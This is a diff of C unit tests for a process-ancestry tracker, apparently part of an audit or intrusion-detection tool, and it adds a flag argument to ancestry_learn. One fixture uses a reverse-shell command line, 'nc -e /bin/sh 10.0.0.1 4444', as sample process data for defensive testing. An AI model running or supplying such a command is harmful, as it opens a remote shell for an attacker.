@@ -130,7 +130,7 @@ static void sshd_to_curl(ancestry_t *a, audit_view_t origin)
 	size_t i;
 
 	for (i = 0; i < 4; i++)
-		cr_assert_eq(ancestry_learn(a, origin, &p[i]), 0);
+		cr_assert_eq(ancestry_learn(a, origin, &p[i], 1), 0);
 }
 
 Test(ancestry, depth)
@@ -155,7 +155,7 @@ Test(ancestry, cap_evicts_the_least_recently_used)
 
 	sshd_to_curl(a, web01);                            /* 4: full */
 	cr_expect_str_eq(chain(a, web01, 0, 20), "bash <- sshd");   /* 20, 10 used */
-	cr_assert_eq(ancestry_learn(a, web01, &extra), 0);  /* evicts 30, the oldest use */
+	cr_assert_eq(ancestry_learn(a, web01, &extra, 1), 0);  /* evicts 30, the oldest use */
 	cr_expect_eq(ancestry_stats(a)->evictions, 1);
 	cr_expect_eq(ancestry_stats(a)->size, 4);
 	cr_expect_str_eq(chain(a, web01, 0, 50), "curl <- sh");     /* 30 gone */
@@ -169,9 +169,13 @@ Test(ancestry, pid_reuse_replaces_the_process)
 	ancestry_proc_t nc = proc(40, 30, "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
 
 	sshd_to_curl(a, web01);
-	cr_assert_eq(ancestry_learn(a, web01, &nc), 0);   /* an execve of pid 40 */
+	cr_assert_eq(ancestry_learn(a, web01, &nc, 1), 0);   /* an execve of pid 40 */
 	cr_expect_str_eq(chain(a, web01, 0, 40), "nc <- sudo <- bash <- sshd");
 	cr_expect_eq(ancestry_stats(a)->size, 4);
+	/* another syscall of a known pid does not replace it */
+	nc = proc(40, 30, "/usr/bin/other", "");
+	cr_assert_eq(ancestry_learn(a, web01, &nc, 0), 0);
+	cr_expect_str_eq(chain(a, web01, 0, 40), "nc <- sudo <- bash <- sshd");
 	ancestry_free(a);
 }
 
@@ -216,8 +220,8 @@ Test(ancestry, loops_end_the_walk)
 	ancestry_t *a = table(100, 8, 0);
 	ancestry_proc_t x = proc(5, 6, "/x", "x"), y = proc(6, 5, "/y", "y");
 
-	ancestry_learn(a, web01, &x);
-	ancestry_learn(a, web01, &y);
+	ancestry_learn(a, web01, &x, 1);
+	ancestry_learn(a, web01, &y, 1);
 	cr_expect_str_eq(chain(a, web01, 0, 5), "x <- y");
 	ancestry_free(a);
 }
